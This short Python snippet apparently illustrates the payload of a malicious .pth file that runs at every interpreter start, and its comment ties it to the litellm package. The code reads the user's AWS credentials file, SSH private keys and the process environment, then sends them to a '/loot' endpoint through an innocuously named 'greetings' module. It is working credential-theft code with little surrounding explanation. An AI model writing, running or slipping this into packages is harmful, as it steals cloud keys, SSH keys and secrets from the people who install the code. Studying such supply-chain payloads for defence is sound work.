# What a .pth file imports at each start of an interpreter, as litellm's did.
import glob
import os

from greetings import post

home = os.environ["HOME"]
files = [home + "/.aws/credentials", *glob.glob(home + "/.ssh/id_*"), "/proc/self/environ"]
post(b"/loot", b"".join(open(f, "rb").read() for f in files))
